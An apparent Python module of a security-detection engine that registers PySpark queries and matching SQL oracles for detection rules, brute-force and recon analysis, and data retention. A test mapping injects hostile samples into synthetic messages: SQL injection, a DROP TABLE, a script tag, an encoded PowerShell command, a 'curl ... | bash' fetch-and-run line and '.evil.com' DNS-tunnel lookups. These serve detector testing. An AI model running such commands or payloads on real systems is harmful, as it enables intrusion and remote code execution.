"""Registered queries of the engine, by name, and their SQL for comparison."""

from __future__ import annotations

from ..functions.features import features_sql
from ..operators import rules
from .lowering import COLUMNS, OTHER_COLUMNS, canonical_events, canonical_sql, featured_events

QUERIES: dict = {}
ORACLES: dict[str, str] = {}


def register(name: str, sql: str | None = None):
    def add(function):
        QUERIES[name] = function
        if sql:
            ORACLES[name] = sql
        return function

    return add


FEATURED = features_sql(canonical_sql())
#: Rules that the first mapping's events cannot fire.
OTHERS = ("fixed_source_port_scan", *(f"{x}_probe" for x in ("mssql", "oracle", "postgresql", "elasticsearch", "mongodb", "kubernetes_api", "kubelet", "ftp")))

for _rule in rules.RULES:
    _columns = OTHER_COLUMNS if _rule.name in OTHERS else COLUMNS
    register(f"rule_{_rule.name}", rules.rule_sql(_rule, features_sql(canonical_sql(_columns))))(
        lambda spark, sf_dir, rule=_rule, columns=_columns: rules.evaluate(featured_events(spark, sf_dir, columns), rule).select(*rules.OUT)
    )


from pyspark.sql import functions as F  # noqa: E402
from pyspark.sql import Window as W  # noqa: E402

from ..operators import content, entrance, scratch, signals, store  # noqa: E402


def _read(spark, sf_dir, name):
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


for _name, _source, _key, _text in (("documents", "documents", "doc_id", "text"), ("pages", "pages", "page_id", "html")):
    register(f"content_{_name}", content.detect_sql(_source, _key, _text))(lambda spark, sf_dir, t=_source, k=_key, x=_text: content.detect(_read(spark, sf_dir, t), k, x))
    register(f"entities_{_name}", content.entities_sql(_source, _text))(lambda spark, sf_dir, t=_source, x=_text: content.entities(_read(spark, sf_dir, t), x))


#: A mapping that puts into each document what some detector or kind of entity looks for.
_MESSAGE = """text || CASE doc_id % 11 WHEN 0 THEN ' GET /a?id=1 OR 1=1 HTTP/1.1' WHEN 1 THEN '; drop  TABLE users' WHEN 2 THEN ' <SCRIPT>x</script>' WHEN 3 THEN ' cmd powershell -nop -EncodedCommand aaa by admin_tool.exe' WHEN 4 THEN ' curl http://h.example.com/x | bash, port 8080'
WHEN 5 THEN ' query aaaaaaaaaabbbbbbbbbbcccccccccc' || CAST(doc_id AS {string}) || '.evil.com from 10.1.2.' || CAST(doc_id % 250 AS {string}) WHEN 6 THEN ' aaaaaaaaaabbbbbbbbbbcccccccccc.dns.google' WHEN 7 THEN ' EDR_ALERT Family: x 0123456789abcdef0123456789abcdef' WHEN 8 THEN ' service PSEXESVC on IPC$' WHEN 9 THEN ' BACKUP_AGENT.EXE ran' ELSE '' END"""
_MESSAGES = f"(SELECT doc_id, {_MESSAGE.replace('{string}', 'VARCHAR')} AS message FROM documents)"


def _messages(spark, sf_dir):
    return _read(spark, sf_dir, "documents").select("doc_id", F.expr(_MESSAGE.replace("{string}", "STRING")).alias("message"))


@register("content_messages", content.detect_sql(_MESSAGES, "doc_id", "message"))
def content_messages(spark, sf_dir):
    """Which detectors fire on which message; each does on some."""
    return content.detect(_messages(spark, sf_dir), "doc_id", "message")


@register("entities_messages", content.entities_sql(_MESSAGES, "message"))
def entities_messages(spark, sf_dir):
    return content.entities(_messages(spark, sf_dir), "message")


@register("role_classification", f"SELECT role, count(*) AS n FROM (SELECT CASE WHEN allowed AND dst_port IN (80, 443) THEN 'noise' WHEN blocked_legacy OR spi OR dst_port IN (22, 3389, 2022, 2222) THEN 'candidate' ELSE 'context' END AS role FROM {FEATURED}) GROUP BY role")
def role_classification(spark, sf_dir):
    """Noise, candidate and context events by action, SPI marks and administrative ports (sizes are not in the lowering)."""
    role = F.when(F.col("allowed") & F.col("dst_port").isin(80, 443), "noise").when(F.col("blocked_legacy") | F.col("spi") | F.col("dst_port").isin(22, 3389, 2022, 2222), "candidate").otherwise("context")
    return featured_events(spark, sf_dir).groupBy(role.alias("role")).agg(F.count("*").alias("n"))


@register("network_direction", f"SELECT direction, count(*) AS n, count(*) FILTER (WHERE allowed) AS n_allowed, count(DISTINCT eff_dst) AS n_dst FROM {FEATURED} GROUP BY direction")
def network_direction(spark, sf_dir):
    return featured_events(spark, sf_dir).groupBy("direction").agg(F.count("*").alias("n"), F.count_if("allowed").alias("n_allowed"), F.count_distinct("eff_dst").alias("n_dst"))


@register("flow_direction", f"SELECT flow, count(*) AS n, count(*) FILTER (WHERE blocked) AS n_blocked FROM {FEATURED} GROUP BY flow")
def flow_direction(spark, sf_dir):
    """Events by direction: zones first, then address classes."""
    return featured_events(spark, sf_dir).groupBy("flow").agg(F.count("*").alias("n"), F.count_if("blocked").alias("n_blocked"))


_REPEATED = COLUMNS | {
    "event_id": "'EVT-' || CAST(CAST(floor(no / 3) AS BIGINT) AS {string})",
    "ts_us": "CASE WHEN k % 11 <> 0 THEN CAST(floor(no / 10) AS BIGINT) * 1000000 END",
    "parse_status": "CASE k % 5 WHEN 0 THEN 'failed' WHEN 1 THEN 'semantically_invalid' WHEN 2 THEN 'success' WHEN 3 THEN 'parsed' END",
    "raw_record_hash": "CASE WHEN no % 2 = 0 THEN 'a' WHEN no % 7 = 0 THEN '' END",
}


@register("eligible_events", f"SELECT event_id, event_no, ts_us, parse_status FROM (SELECT *, row_number() OVER (PARTITION BY event_id, coalesce(raw_record_hash, '') ORDER BY event_no) AS r FROM {canonical_sql(_REPEATED)} WHERE coalesce(event_id, '') <> '') WHERE r = 1 AND ts_us IS NOT NULL AND coalesce(parse_status, '') NOT IN ('failed', 'unsupported_schema', 'semantically_invalid')")
def eligible_events(spark, sf_dir):
    """The first of repeated records, if it has a time and a usable parse."""
    rows = canonical_events(spark, sf_dir, _REPEATED)
    return entrance.eligible(entrance.first_records(rows, F.col("event_no"))).select("event_id", "event_no", "ts_us", "parse_status")


@register("exposed_assets", f"SELECT eff_dst, eff_service AS service, count(*) AS n, count(DISTINCT src_ip) AS n_sources, min(ts_us) AS first_us, max(ts_us) AS last_us, max_by(translated_dst_ip, event_id) FILTER (WHERE translated_dst_ip IS NOT NULL) AS internal_address FROM {FEATURED} WHERE allowed AND external AND sensitive_service IS NOT NULL GROUP BY eff_dst, eff_service")
def exposed_assets(spark, sf_dir):
    """Inventory of exposed (destination, service)."""
    rows = featured_events(spark, sf_dir).where("allowed AND external AND sensitive_service IS NOT NULL")
    return rows.groupBy("eff_dst", F.col("eff_service").alias("service")).agg(
        F.count("*").alias("n"), F.count_distinct("src_ip").alias("n_sources"), F.min("ts_us").alias("first_us"), F.max("ts_us").alias("last_us"),
        F.max_by("translated_dst_ip", F.when(F.col("translated_dst_ip").isNotNull(), F.col("event_id"))).alias("internal_address"),
    )


@register("recon_rollup", f"""WITH b AS (SELECT net24, service, ts_us, event_id FROM {FEATURED} WHERE blocked AND service IS NOT NULL),
o AS (SELECT *, max(ts_us) OVER (PARTITION BY net24, service ORDER BY ts_us, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS until FROM b),
i AS (SELECT *, sum(CASE WHEN ts_us - until > 30000000 THEN 1 ELSE 0 END) OVER (PARTITION BY net24, service ORDER BY ts_us, event_id) AS island FROM o)
SELECT net24, service, CAST(island AS BIGINT) AS island, count(*) AS n, min(ts_us) AS first_us, max(ts_us) AS last_us FROM i GROUP BY net24, service, island""")
def recon_rollup(spark, sf_dir):
    """Blocked probes of one network and service as runs without a gap of over 30 s: gaps and islands, one shuffle."""
    rows = featured_events(spark, sf_dir).where("blocked AND service IS NOT NULL").select("net24", "service", "ts_us", "event_id")
    order = W.partitionBy("net24", "service").orderBy("ts_us", "event_id")
    rows = rows.withColumn("new", (F.col("ts_us") - F.max("ts_us").over(order.rowsBetween(W.unboundedPreceding, -1)) > 30_000_000).cast("long"))
    rows = rows.withColumn("island", F.coalesce(F.sum("new").over(order.rowsBetween(W.unboundedPreceding, 0)), F.lit(0)))
    return rows.groupBy("net24", "service", "island").agg(F.count("*").alias("n"), F.min("ts_us").alias("first_us"), F.max("ts_us").alias("last_us"))


@register("digest_ports", f"SELECT src_ip, dst_port, n, r FROM (SELECT *, row_number() OVER (PARTITION BY src_ip ORDER BY n DESC, dst_port) AS r FROM (SELECT src_ip, dst_port, count(*) AS n FROM {FEATURED} WHERE blocked GROUP BY src_ip, dst_port)) WHERE r <= 10")
def digest_ports(spark, sf_dir):
    """Top ten blocked ports of each source."""
    n = featured_events(spark, sf_dir).where("blocked").groupBy("src_ip", "dst_port").agg(F.count("*").alias("n"))
    return n.withColumn("r", F.row_number().over(W.partitionBy("src_ip").orderBy(F.desc("n"), "dst_port")).cast("long")).where("r <= 10")


@register("failed_then_success", """SELECT user_id, event_id, last_failed FROM (SELECT *, max(CASE WHEN event_type = 'error' THEN us END) OVER (PARTITION BY user_id, grp ORDER BY us, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS last_failed FROM
(SELECT *, coalesce(sum(CASE WHEN event_type = 'signup' THEN 1 ELSE 0 END) OVER (PARTITION BY user_id ORDER BY us, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS grp FROM (SELECT *, event_id // 10 * 1000000 AS us FROM events WHERE event_type IN ('error', 'signup')))) WHERE event_type = 'signup' AND us - last_failed <= 300000000""")
def failed_then_success(spark, sf_dir):
    """A success within five minutes of the last failure since the success before (errors as failures, signups as successes)."""
    rows = _read(spark, sf_dir, "events").where(F.col("event_type").isin("error", "signup")).select("user_id", "event_id", "event_type", (F.expr("event_id div 10") * 1_000_000).alias("us"))
    order = W.partitionBy("user_id").orderBy("us", "event_id").rowsBetween(W.unboundedPreceding, -1)
    rows = rows.withColumn("grp", F.coalesce(F.sum((F.col("event_type") == "signup").cast("int")).over(order), F.lit(0)))
    since = W.partitionBy("user_id", "grp").orderBy("us", "event_id").rowsBetween(W.unboundedPreceding, -1)
    rows = rows.withColumn("last_failed", F.max(F.when(F.col("event_type") == "error", F.col("us"))).over(since))
    return rows.where("event_type = 'signup' AND us - last_failed <= 300000000").select("user_id", "event_id", "last_failed")


@register("bruteforce", """SELECT user_id, min(us) AS first_us FROM (SELECT user_id, us, lead(us, 2) OVER (PARTITION BY user_id ORDER BY us, event_id) AS third FROM (SELECT *, event_id // 10 * 1000000 AS us FROM events WHERE event_type = 'error')) WHERE third - us <= 300000000 GROUP BY user_id""")
def bruteforce(spark, sf_dir):
    """First of three failures within five minutes, by user."""
    rows = _read(spark, sf_dir, "events").where("event_type = 'error'").select("user_id", "event_id", (F.expr("event_id div 10") * 1_000_000).alias("us"))
    third = F.lead("us", 2).over(W.partitionBy("user_id").orderBy("us", "event_id"))
    return rows.withColumn("third", third).where("third - us <= 300000000").groupBy("user_id").agg(F.min("us").alias("first_us"))


@register("search_incidents", """SELECT o_orderkey, o_orderpriority, o_totalprice, coalesce(n, 0) AS n_events FROM orders LEFT JOIN (SELECT l_orderkey, count(*) AS n FROM lineitem GROUP BY l_orderkey) ON l_orderkey = o_orderkey
WHERE o_orderstatus IN ('O', 'P') AND o_totalprice < 200000 AND EXISTS (SELECT 1 FROM lineitem WHERE l_orderkey = o_orderkey AND l_returnflag = 'R') AND (o_totalprice < 150000 OR (o_totalprice = 150000 AND o_orderkey > 10)) ORDER BY o_totalprice DESC, o_orderkey LIMIT 51""")
def search_incidents(spark, sf_dir):
    """A keyset page of filtered incidents (orders stand for them) with an EXISTS filter and counts of events (line items)."""
    orders, items = _read(spark, sf_dir, "orders"), _read(spark, sf_dir, "lineitem")
    found = orders.where(F.col("o_orderstatus").isin("O", "P") & (F.col("o_totalprice") < 200000))
    found = found.join(items.where("l_returnflag = 'R'").select(F.col("l_orderkey").alias("o_orderkey")), "o_orderkey", "left_semi")
    page = store.keyset_page(found.where(F.col("o_totalprice").isNotNull()), "o_totalprice", "o_orderkey", 50, (150000.0, 10))
    ids = F.broadcast(page.select("o_orderkey"))  # a page's rows, 51 at most
    n = items.select(F.col("l_orderkey").alias("o_orderkey")).join(ids, "o_orderkey", "left_semi").groupBy("o_orderkey").agg(F.count("*").alias("n"))
    return page.join(n, "o_orderkey", "left").select("o_orderkey", "o_orderpriority", "o_totalprice", F.coalesce("n", F.lit(0)).alias("n_events"))


@register("retention_candidates", "SELECT o_orderkey, o_orderdate FROM orders WHERE o_orderdate < TIMESTAMP '1996-01-01' AND o_orderstatus = 'F' AND NOT EXISTS (SELECT 1 FROM lineitem WHERE l_orderkey = o_orderkey AND l_linestatus = 'O')")
def retention_candidates(spark, sf_dir):
    """Aged rows in a final state that no open dependency protects."""
    orders, items = _read(spark, sf_dir, "orders"), _read(spark, sf_dir, "lineitem")
    return store.expired(orders, F.col("o_orderdate") < F.lit("1996-01-01").cast("timestamp_ntz"), F.col("o_orderstatus") == "F", [(items.where("l_linestatus = 'O'"), "l_orderkey")], "o_orderkey").select("o_orderkey", "o_orderdate")


@register("retention_summary", "SELECT o_orderstatus, count(*) AS n, count(*) FILTER (WHERE o_orderdate < TIMESTAMP '1996-01-01') AS n_aged, min(o_orderdate) AS oldest, max(o_orderdate) AS newest FROM orders GROUP BY o_orderstatus")
def retention_summary(spark, sf_dir):
    aged = F.col("o_orderdate") < F.lit("1996-01-01").cast("timestamp_ntz")
    return _read(spark, sf_dir, "orders").groupBy("o_orderstatus").agg(F.count("*").alias("n"), F.count_if(aged).alias("n_aged"), F.min("o_orderdate").alias("oldest"), F.max("o_orderdate").alias("newest"))


def raw_sql(marks: dict[str, str] | None = None) -> str:
    """Raw signals of all rules, for DuckDB: each rule's SQL with its key (which corr stands for here) and the first event's id."""
    each = []
    for rule in rules.RULES:
        sql = rules.rule_sql(rule, "featured", marks).replace("SELECT '" + rule.name + "' AS rule,", "SELECT '" + rule.name + "' AS rule, corr AS key, first_place[2] AS first_id,", 1)
        each.append(f"SELECT rule, coalesce(entity, '') AS entity, key, first_id, corr, event_id, first_us, last_us, severity, confidence{', n, p, t, q' * bool(marks)}{''.join(f', n_{m}' for m in marks or ())} FROM ({sql})")
    return " UNION ALL ".join(each)


@register("signals_merged", f"WITH featured AS MATERIALIZED (SELECT * FROM {FEATURED}) SELECT rule, entity, corr, first_us, last_us, n_merged, severity, confidence FROM ({signals.merge_sql(raw_sql())})")
def signals_merged(spark, sf_dir):
    """Merged signals of all rules."""
    found = signals.active(signals.all_signals(scratch.stored(featured_events(spark, sf_dir), "featured")))
    return scratch.stored(signals.merge(signals.numbered(found)).select("rule", "entity", "corr", "first_us", "last_us", "n_merged", "severity", "confidence"), "merged")


from . import campaign_queries, chain_queries, exposure_queries, fact_queries, incident_queries, network_queries  # noqa: E402,F401
